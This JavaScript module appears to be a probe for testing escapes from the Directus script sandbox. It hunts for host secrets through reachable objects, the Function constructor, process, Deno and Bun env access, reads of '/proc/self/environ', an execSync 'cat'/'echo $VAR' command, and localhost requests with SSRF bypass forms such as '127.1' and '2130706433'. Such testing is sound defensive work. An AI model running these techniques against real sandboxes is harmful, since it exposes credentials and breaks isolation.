/*
 * Stands at the top of every program, in the program's own module: what an attack found, and everything else that can be reached,
 * is searched for the host's secrets by every way known. `trip` says where they are; what they are is known to the host alone.
 * Everything here is captured before the attack changes the realm. Whatever is found is only collected: the host judges.
 */
import { log, request, sleep } from 'directus:api';

const trip = __TRIP__;
const web = trip.web;

const { getOwnPropertyDescriptor, getPrototypeOf, ownKeys, apply, defineProperty } = Reflect;
const OwnFunction = Function;
const OwnObject = Object.prototype;
const OwnString = String;
const OwnSet = Set;
const setHas = Function.prototype.call.bind(Set.prototype.has);
const setAdd = Function.prototype.call.bind(Set.prototype.add);
const slice = Function.prototype.call.bind(String.prototype.slice);
const isProxyless = (value) => (typeof value === 'object' && value !== null) || typeof value === 'function';
const handles = ['applySync', 'applyIgnored', 'derefInto', 'copySync', 'copyInto', 'unwrapResult', 'getSync', 'setSync'];
const mostNodes = 4000;

const hunt = async (starts) => {
  const report = { __proto__: null, tried: 0, walked: 0, foreign: [], found: [] };
  const put = (list, text) => {
    if (list.length < 40)
      defineProperty(list, list.length, {
        __proto__: null,
        value: slice(OwnString(text), 0, 300),
        enumerable: true,
        writable: true,
        configurable: true,
      });
  };
  const attempt = async (how) => {
    report.tried += 1;
    try {
      const value = await how();
      if (value !== undefined && value !== null)
        put(report.found, typeof value === 'object' && value.data !== undefined ? JSON.stringify(value.data) : value);
    } catch {
      /* this way is closed */
    }
  };
  const globals = new OwnSet();
  const searchFiles = async (fs) => {
    if (!isProxyless(fs)) return;
    await attempt(() => fs.readFileSync(trip.file, 'utf8'));
    await attempt(() =>
      fs
        .readFileSync('/proc/self/environ', 'utf8')
        .split('\0')
        .find((line) => slice(line, 0, trip.variable.length) === trip.variable),
    );
    await attempt(() => fs.readFileSync('/proc/self/status', 'utf8').replace(/^[\s\S]*?PPid:\s*(\d+)[\s\S]*$/, 'pid=$1'));
  };
  const searchRequire = async (require) => {
    if (typeof require !== 'function') return;
    await attempt(() => searchFiles(require('fs')));
    await attempt(() => require('child_process').execSync('cat ' + trip.file + '; echo ' + '$' + trip.variable, { encoding: 'utf8' }));
    await attempt(() => 'pid=' + require('process').ppid);
    await attempt(() => require('process').env[trip.variable]);
    await attempt(() => require('inspector').url());
  };
  const searchGlobal = async (global, make) => {
    if (!isProxyless(global) || setHas(globals, global)) return;
    setAdd(globals, global);
    const { process, Deno, Bun, fetch, WebSocket } = global;
    if (isProxyless(process)) {
      await attempt(() => process.env[trip.variable]);
      await attempt(() => 'pid=' + process.pid);
      await attempt(() => 'pid=' + process.ppid);
      await attempt(() => searchFiles(process.getBuiltinModule('fs')));
      await attempt(() => searchRequire(process.getBuiltinModule('module').createRequire('file:///x.js')));
      await attempt(() => searchRequire(process.mainModule.require));
      await attempt(() => searchFiles(process.binding('fs')));
    }
    if (isProxyless(Deno)) {
      await attempt(() => Deno.env.get(trip.variable));
      await attempt(() => Deno.readTextFileSync(trip.file));
      await attempt(() => 'pid=' + Deno.ppid);
    }
    if (isProxyless(Bun)) {
      await attempt(() => Bun.env[trip.variable]);
      await attempt(() => Bun.file(trip.file).text());
    }
    await searchRequire(global.require);
    await searchFiles(global.fs);
    if (typeof fetch === 'function') await attempt(async () => (await fetch(trip.origin)).text());
    if (typeof WebSocket === 'function') await attempt(() => void new WebSocket('ws://127.0.0.1:' + trip.port));
    if (make !== undefined) {
      await attempt(() => searchRequire(make('return require')()));
      await attempt(async () => searchFiles(await make('name', 'return import(name)')('node:fs')));
      await attempt(async () => searchRequire((await make('return import("node:module")')()).createRequire('file:///x.js')));
    }
  };
  const makers = new OwnSet();
  const searchMaker = async (make) => {
    if (typeof make !== 'function' || setHas(makers, make)) return;
    setAdd(makers, make);
    report.tried += 1;
    try {
      if (make !== OwnFunction && getPrototypeOf(make) !== OwnFunction && make.name === 'Function')
        put(report.foreign, 'a Function of another realm');
      await searchGlobal(make('return this')() ?? make('return globalThis')(), make);
    } catch {
      /* makes no code */
    }
  };
  /* Where the chain of prototypes ends: at nothing, or at this realm's Object.prototype. */
  const rootOf = (value) => {
    let last = value;
    for (let step = 0; step < 100; step += 1) {
      const next = getPrototypeOf(last);
      if (next === null) return last;
      last = next;
    }
    return last;
  };
  const visited = new OwnSet();
  const queue = { __proto__: null, first: 0, last: 0 };
  const enqueue = (value, path) => {
    if (!isProxyless(value) || setHas(visited, value) || report.walked >= mostNodes) return;
    setAdd(visited, value);
    report.walked += 1;
    queue[queue.last] = { __proto__: null, value, path };
    queue.last += 1;
  };
  const look = async (value, path) => {
    const root = rootOf(value);
    if (
      root !== OwnObject &&
      getPrototypeOf(value) !== null &&
      typeof getOwnPropertyDescriptor(root, 'hasOwnProperty')?.value === 'function'
    )
      put(report.foreign, path + ' belongs to another realm');
    for (let at = 0; at < handles.length; at += 1)
      if (typeof getOwnPropertyDescriptor(value, handles[at])?.value === 'function') put(report.foreign, path + ' has ' + handles[at]);
    if (typeof value === 'function') {
      await searchMaker(value.constructor);
      await searchMaker(getPrototypeOf(value)?.constructor);
    }
    enqueue(getPrototypeOf(value), path + '.__proto__');
    const keys = ownKeys(value);
    for (let at = 0; at < keys.length && at < 400; at += 1) {
      const property = getOwnPropertyDescriptor(value, keys[at]);
      if (property === undefined) continue;
      const name = path + '.' + OwnString(keys[at]);
      if (property.get !== undefined) {
        enqueue(property.get, name + '.get');
        try {
          enqueue(apply(property.get, value, []), name);
        } catch {
          /* not for this receiver */
        }
      }
      enqueue(property.set, name + '.set');
      enqueue(property.value, name);
    }
  };
  const denied = async (how) => {
    try {
      const answer = how();
      enqueue(answer, 'promise');
      enqueue(await answer, 'answer');
    } catch (error) {
      enqueue(error, 'error');
    }
  };
  for (let at = 0; at < starts.length; at += 1) enqueue(starts[at], 'start' + at);
  enqueue(log, 'log');
  enqueue(sleep, 'sleep');
  enqueue(request, 'request');
  enqueue(async () => 1, 'async');
  enqueue(function* () {}, 'generator');
  await denied(() => log(1));
  await denied(() => sleep('1'));
  await denied(() => sleep(0));
  await denied(() => request(1));
  enqueue(globalThis, 'globalThis');
  await searchGlobal(globalThis, OwnFunction);
  while (queue.first < queue.last) {
    const { value, path } = queue[queue.first];
    delete queue[queue.first];
    queue.first += 1;
    try {
      await look(value, path);
    } catch {
      /* a proxy or an accessor that refuses */
    }
  }
  const doors = [
    trip.origin,
    'http://localhost:' + trip.port + '/',
    'http://127.1:' + trip.port + '/',
    'http://2130706433:' + trip.port + '/',
    web.replace('/w/', '@127.0.0.1:' + trip.port + '/'),
    web + '/to-trap',
  ];
  for (let at = 0; at < doors.length; at += 1) await attempt(() => request(doors[at]));
  return report;
};
